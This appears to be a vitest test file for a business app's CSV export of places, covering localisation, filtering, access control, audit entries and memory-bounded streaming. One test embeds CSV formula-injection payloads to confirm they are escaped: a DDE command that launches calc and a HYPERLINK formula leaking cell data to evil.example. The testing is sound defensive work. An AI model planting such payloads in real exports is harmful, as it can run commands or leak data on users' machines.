import { request } from "node:http";
import type { AddressInfo } from "node:net";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { platformBusinessId } from "@rewardo/contract/roles";
import { afterAll, beforeAll, expect, test } from "vitest";
import { fixedClock } from "../../../platform/clock.ts";
import { businessScope } from "../../../platform/scope.ts";
import { openTestApp, type Caller, type TestApp } from "../../../testing/app.ts";
import { giveBareRole } from "../../../testing/bare-role.ts";
import { buildBusiness } from "../../../testing/builders.ts";
import { openWitness, type Witness } from "../../../testing/witness.ts";
import { createPlace } from "./service.ts";

let app: TestApp;
let witness: Witness;
let address: AddressInfo;
beforeAll(async () => {
  app = await openTestApp({ clock: fixedClock("2026-06-12T22:30:00.000Z") });
  witness = await openWitness(app.server);
  await app.app.listen({ port: 0, host: "127.0.0.1" });
  address = app.app.server.address() as AddressInfo;
});
afterAll(async () => {
  await witness.close();
  await app.close();
});

const setUp = async () => {
  const business = await buildBusiness(app);
  return { ...business, owner: await app.as("OWNER", business.scope) };
};
const ask = (caller: Caller, search = "", prefix = "/api") =>
  caller.call<string>("GET", `${prefix}/places/export${search}`);
const linesOf = (body: string): string[] => body.replace("\ufeff", "").trimEnd().split("\r\n");
const namesOf = (body: string): string[] =>
  linesOf(body)
    .slice(1)
    .map((line) => line.split(/[;,]/)[0]!);
const exportsOf = (business_id: string) =>
  witness.rows<{ after: Record<string, unknown>; account_id: string }>(
    "select account_id, after from audit_entries where business_id = $1 and action = 'exported' order by recorded_at, _id",
    [business_id],
  );

test("heads, separators and decimals are those of the language, times those of the business", async () => {
  const { owner, ctx, place_id } = await setUp();
  const named = { name: "Stary Kleparz", address: "ul. Długa 5, lok. 2", city: "Kraków", postcode: "31-147" };
  const _id = await createPlace(ctx, {
    ...named,
    location: [19.941235, -0.5],
    opening_hours: "Mo-Fr 08:00-16:00; Sa 09:00-13:00",
    phone: "+48601234567",
  });
  const polish = await ask(owner, "?locale=pl&q=kleparz");
  expect(polish.status).toBe(200);
  expect(polish.headers).toMatchObject({
    "content-type": "text/csv; charset=utf-8; header=present",
    "content-disposition": `attachment; filename="kawiarnia-ziarno-lokale-2026-06-13.csv"; filename*=UTF-8''kawiarnia-ziarno-lokale-2026-06-13.csv`,
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
  });
  expect(polish.body.startsWith("\ufeff")).toBe(true);
  expect(linesOf(polish.body)).toEqual([
    "Nazwa;Adres;Kod pocztowy;Miejscowość;Kraj;Szerokość geograficzna;Długość geograficzna;Godziny otwarcia;Telefon;E-mail;Strefa czasowa;Status;Dodano;ID",
    `Stary Kleparz;"ul. Długa 5, lok. 2";31-147;Kraków;PL;-0,5;19,941235;"Mo-Fr 08:00-16:00; Sa 09:00-13:00";'+48601234567;;;Otwarte;2026-06-13 00:30;${_id}`,
  ]);
  const english = await ask(owner, "?locale=en&q=kazimierz");
  expect(linesOf(english.body)).toEqual([
    "Name,Address,Postcode,City,Country,Latitude,Longitude,Opening hours,Phone,E-mail,Time zone,Status,Created,ID",
    `Kazimierz,,,,PL,,,,,,,Open,2026-06-13 00:30,${place_id}`,
  ]);
  // Without a language in the request: the business's own.
  expect(linesOf((await ask(owner)).body)[0]).toMatch(/^Nazwa;/);
});

test("filters, order and choice are those of the list", async () => {
  const { owner, ctx, scope, place_id } = await setUp();
  const closed = await createPlace(ctx, { name: "Łobzów" });
  await createPlace(ctx, { name: "Azory" });
  await owner.call("POST", `/api/places/${closed}/close`);
  expect(namesOf((await ask(owner)).body)).toEqual(["Azory", "Kazimierz", "Łobzów"]);
  expect(namesOf((await ask(owner, "?sort=desc")).body)).toEqual(["Łobzów", "Kazimierz", "Azory"]);
  expect(namesOf((await ask(owner, "?status=closed")).body)).toEqual(["Łobzów"]);
  expect(namesOf((await ask(owner, `?ids=${closed}&ids=${place_id}`)).body)).toEqual(["Kazimierz", "Łobzów"]);
  expect(namesOf((await ask(owner, `?ids=${closed}&status=active`)).body)).toEqual([]);
  expect(linesOf((await ask(owner, "?q=nothing")).body)).toHaveLength(1);
  for (const search of ["?limit=5", "?cursor=x", "?ids=5", "?locale=fr", `?${`ids=${closed}&`.repeat(201)}`]) {
    expect((await ask(owner, search)).status, search.slice(0, 20)).toBe(400);
  }
  expect((await ask(owner, `?${`ids=${closed}&`.repeat(200)}`)).status).toBe(200);
  const noted = await exportsOf(scope.business_id);
  expect(noted).toHaveLength(7);
  expect(noted[2]).toEqual({
    account_id: owner.account_id,
    after: { format: "csv", locale: "pl", q: null, status: "closed", sort_by: "name", direction: "asc", chosen: null },
  });
  expect(noted[3]!.after).toMatchObject({ chosen: 2 });
});

test("an export holds only what the account sees, and needs the right to export", async () => {
  const [home, away] = [await setUp(), await setUp()];
  await createPlace(away.ctx, { name: "Wrzeszcz" });
  expect(namesOf((await ask(home.owner)).body)).toEqual(["Kazimierz"]);
  expect(namesOf((await ask(home.owner, `?ids=${away.place_id}`)).body)).toEqual([]);
  expect((await ask(home.owner, "", `/api/businesses/${away.scope.business_id}`)).status).toBe(404);
  expect((await ask(await app.as("EMPLOYEE", home.scope))).status).toBe(403);
  expect((await ask(app.withToken(null))).status).toBe(401);
  const platform = await app.as("REWARDO_ADMIN", businessScope(platformBusinessId));
  expect(namesOf((await ask(platform, "", `/api/businesses/${away.scope.business_id}`)).body)).toEqual([
    "Kazimierz",
    "Wrzeszcz",
  ]);
  expect((await exportsOf(away.scope.business_id)).map(({ account_id }) => account_id)).toEqual([platform.account_id]);
  // Across all businesses it is noted where the platform's own people are.
  expect(namesOf((await ask(platform)).body)).toContain("Wrzeszcz");
  expect(await exportsOf(platformBusinessId)).toHaveLength(1);
  expect((await ask(platform, "?q=w")).status).toBe(400);
});

test("a role that may export and may not see places exports none", async () => {
  const { scope, ctx } = await setUp();
  const caller = await app.as("EMPLOYEE", scope);
  const { account_id } = caller;
  const give = (...permissions: string[]) => giveBareRole(witness, { ...scope, account_id }, permissions);
  await give("data_export");
  expect((await ask(caller)).status).toBe(403);
  expect(await exportsOf(scope.business_id)).toEqual([]);
  await give("data_export", "places_view");
  await createPlace(ctx, { name: "Wrzeszcz" });
  expect(namesOf((await ask(caller)).body)).toEqual(["Kazimierz", "Wrzeszcz"]);
});

setFlagsFromString("--expose-gc");
const collect = runInNewContext("gc") as () => void;

/** Bytes that something still refers to. */
const heldNow = (): number => {
  collect();
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  return heapUsed + arrayBuffers;
};

/** Every distinct cell, read as RFC 4180 says. */
const cellsOf = (body: string): Set<string> =>
  new Set(
    [...body.matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g)].map(([, quoted, bare]) =>
      quoted === undefined ? bare! : quoted.replaceAll('""', '"'),
    ),
  );

const injections = [
  "=1+1",
  "+48",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  '=HYPERLINK("https://evil.example?"&A1;"x")',
  'a";=1+1;"',
  "a\n=1",
];

test("twenty thousand places stream as they are taken, in bounded memory, each once and in order", async () => {
  const { owner, scope, ctx } = await setUp();
  for (const name of injections) await createPlace(ctx, { name });
  await witness.rows(
    `insert into places (business_id, _id, name, name_key, address, city)
    select $1, gen_random_uuid(), 'Lokal ' || lpad(n::text, 5, '0'), 'lokal ' || lpad(n::text, 5, '0'), repeat('ul. Długa ', 25), 'Kraków'
    from generate_series(1, 20000) n`,
    [scope.business_id],
  );
  const headers = { authorization: `Bearer ${owner.token}` };
  const before = heldNow();
  let most = 0;
  const chunks: Buffer[] = [];
  let paused = 0;
  await new Promise<void>((done, failed) => {
    request({ port: address.port, host: "127.0.0.1", path: "/api/places/export?locale=de", headers }, (response) => {
      response.on("data", (chunk: Buffer) => {
        chunks.push(chunk);
        // Slower than the server could be, so that it has to wait.
        if (chunks.length % 20 === 0) {
          paused += 1;
          most = Math.max(most, heldNow() - before);
          response.pause();
          setImmediate(() => response.resume());
        }
      });
      response.on("end", done).on("error", failed);
    })
      .on("error", failed)
      .end();
  });
  const body = Buffer.concat(chunks).toString("utf8");
  const mib = 1024 * 1024;
  expect(body.length / mib).toBeGreaterThan(5);
  expect(paused).toBeGreaterThan(3);
  // What came is kept here, too; beside it there are a few pages at a time.
  expect((most - Buffer.byteLength(body)) / mib).toBeLessThan(16);
  const names = [...body.matchAll(/^Lokal \d{5}(?=;)/gm)].map(([name]) => name);
  expect(names).toHaveLength(20_000);
  expect(new Set(names).size).toBe(20_000);
  expect(names).toEqual(names.toSorted());
  const cells = cellsOf(body);
  for (const written of injections)
    expect(cells.has(/^[=+@-]/.test(written) ? `'${written}` : written), written).toBe(true);
  expect([...cells].filter((value) => /^[=+@\t\r\n-]/.test(value))).toEqual([]);
});

test("a client that disconnects halfway holds nothing afterwards", async () => {
  const { owner, scope } = await setUp();
  await witness.rows(
    `insert into places (business_id, _id, name, name_key, address)
    select $1, gen_random_uuid(), 'Lokal ' || n, 'lokal ' || n, repeat('x', 290) from generate_series(1, 20000) n`,
    [scope.business_id],
  );
  const headers = { authorization: `Bearer ${owner.token}` };
  for (let nr = 0; nr < 4; nr += 1) {
    await new Promise<void>((done) => {
      const asking = request(
        { port: address.port, host: "127.0.0.1", path: "/api/places/export", headers },
        (response) => {
          response.once("data", () => {
            asking.destroy();
            done();
          });
        },
      );
      asking.on("error", () => {});
      asking.end();
    });
  }
  // Two at a time: were the others still held, this one would wait forever.
  expect(linesOf((await ask(owner, "?q=lokal 19999")).body)).toHaveLength(2);
});

test("clients that read nothing hold neither a turn nor a connection", async () => {
  const { owner, scope } = await setUp();
  await witness.rows(
    `insert into places (business_id, _id, name, name_key, address)
    select $1, gen_random_uuid(), 'Lokal ' || n, 'lokal ' || n, repeat('x', 290) from generate_series(1, 60000) n`,
    [scope.business_id],
  );
  const headers = { authorization: `Bearer ${owner.token}` };
  const asked = [1, 2].map(() => {
    const asking = request({ port: address.port, host: "127.0.0.1", path: "/api/places/export", headers }, () => {});
    asking.on("error", () => {});
    asking.end();
    return asking;
  });
  // What is made for them goes to disk first: their lines are full, and nothing waits for that.
  const held = `select count(*)::int as count from pg_stat_activity where datname = current_database()
    and state = 'idle in transaction' and query like '%places%'`;
  expect(linesOf((await ask(owner, "?q=lokal 59999")).body)).toHaveLength(2);
  await expect.poll(async () => (await witness.rows<{ count: number }>(held))[0]?.count, { timeout: 60_000 }).toBe(0);
  for (const asking of asked) asking.destroy();
});
